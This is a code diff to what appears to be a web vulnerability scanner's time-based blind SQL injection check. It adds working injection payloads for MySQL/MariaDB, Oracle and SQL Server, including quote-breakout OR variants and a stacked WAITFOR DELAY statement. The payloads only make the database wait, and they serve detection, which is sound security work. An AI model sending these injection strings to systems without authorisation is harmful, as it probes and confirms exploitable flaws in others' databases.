@@ -8,14 +8,31 @@ interface Nap {
   readonly value: (own: string, seconds: number) => string;
 }
 
-const mysql = (seconds: number) => `1=(SELECT COUNT(*) FROM (SELECT SLEEP(${seconds}) AS n) x WHERE n=0)`;
+/** One row after one wait: with a condition on it MariaDB waits twice. */
+const sleeper = (seconds: number) => `(SELECT COUNT(*) FROM (SELECT SLEEP(${seconds})) x)`;
+/** Never true: an OR with it finds nothing beside. */
+const asleep = (seconds: number) => `0=${sleeper(seconds)}`;
+const mysql = (seconds: number) => `1=${sleeper(seconds)}`;
 const postgres = (seconds: number) => `1=(SELECT COUNT(*) FROM pg_sleep(${seconds}))`;
+
+/** True on its own account after so many seconds; asked once for a query. */
+const oracle = (seconds: number) => `1=(SELECT DBMS_PIPE.RECEIVE_MESSAGE('scanfold',${seconds}) FROM dual)`;
 
 const naps: readonly Nap[] = [
   { database: 'MySQL or MariaDB', value: (own, seconds) => `${own} AND ${mysql(seconds)}` },
   { database: 'MySQL or MariaDB', value: (own, seconds) => `${own}' AND ${mysql(seconds)} AND '1'='1` },
   { database: 'PostgreSQL', value: (own, seconds) => `${own} AND ${postgres(seconds)}` },
   { database: 'PostgreSQL', value: (own, seconds) => `${own}' AND ${postgres(seconds)} AND '1'='1` },
+  // Where nothing is found by the value itself, as by a name that nobody has, a database does not look any further.
+  { database: 'MySQL or MariaDB', value: (own, seconds) => `${own}' OR ${asleep(seconds)} OR '1'='2` },
+  { database: 'MySQL or MariaDB', value: (own, seconds) => `${own}" OR ${asleep(seconds)} OR "1"="2` },
+  { database: 'MySQL or MariaDB', value: (own, seconds) => `${own}') OR ${asleep(seconds)} OR ('1'='2` },
+  { database: 'MySQL or MariaDB', value: (own, seconds) => `${own}") OR ${asleep(seconds)} OR ("1"="2` },
+  { database: 'Oracle', value: (own, seconds) => `${own} AND ${oracle(seconds)}` },
+  { database: 'Oracle', value: (own, seconds) => `${own}' AND ${oracle(seconds)} AND '1'='1` },
+  // A second statement that only waits. What follows the value is never cut off: with it nothing is run at all.
+  { database: 'Microsoft SQL Server', value: (own, seconds) => `${own};WAITFOR DELAY '0:0:${seconds}'` },
+  { database: 'Microsoft SQL Server', value: (own, seconds) => `${own}';WAITFOR DELAY '0:0:${seconds}` },
 ];
 
 const isNumber = (own: string) => /^-?\d+(?:\.\d+)?$/.test(own);
@@ -46,8 +63,8 @@ function isLine(measured: readonly Measured[]): boolean {
 /**
  * SQL injection (time-based blind). A value makes the database wait, and for exactly as long as requested: 0, 2 and 4
  * seconds lie on a line with slope one, and a function that no database has does not wait. Fires for a value with
- * `SLEEP(2)` of MySQL or `pg_sleep(2)` of PostgreSQL; silent on slow pages. Other databases need a second statement or
- * a comment to wait, which may change data, so they are not tested. Firm.
+ * `SLEEP(2)` of MySQL, `pg_sleep(2)` of PostgreSQL, `RECEIVE_MESSAGE` of Oracle or `WAITFOR` of SQL Server; silent on slow
+ * pages. SQLite has nothing that waits, only what keeps its server busy, so it is left to the other checks. Firm.
  */
 export const sqlTime: ActiveCheck = {
   id: 'sql-time',
@@ -73,12 +90,12 @@ export const sqlTime: ActiveCheck = {
     };
     for (const { database, value } of naps) {
       // What stands behind a text without a quote is text.
-      if (!value(own, 0).startsWith(`${own}'`) && !isNumber(own)) continue;
+      if (!/^['"]/.test(value(own, 0).slice(own.length)) && !isNumber(own)) continue;
       if ((await ask(value(own, askedS))).took < baseS + askedS - slackS) continue;
       const measured: Measured[] = [];
       for (const asked of points) measured.push({ asked, took: (await ask(value(own, asked))).took });
       if (!isLine(measured)) continue;
-      const control = value(own, askedS).replace(/SLEEP|pg_sleep/, marker());
+      const control = value(own, askedS).replace(/SLEEP|pg_sleep|RECEIVE_MESSAGE|WAITFOR/, marker());
       if ((await ask(control)).took > baseS + slackS) continue;
       const sent = value(own, againS);
       const last = await ask(sent);
